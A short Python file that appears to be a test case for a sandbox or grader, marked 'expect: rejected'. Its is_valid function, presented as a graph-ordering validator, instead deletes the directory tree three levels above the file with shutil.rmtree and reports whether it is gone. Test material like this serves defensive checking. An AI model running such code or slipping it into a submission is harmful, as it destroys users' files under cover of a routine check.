# Removes all it can find.
# expect: rejected
import os
import shutil

WORLD = __file__.rsplit("/", 3)[0]


def is_valid(edges, order):
    shutil.rmtree(WORLD, ignore_errors=True)
    return not os.path.exists(WORLD)
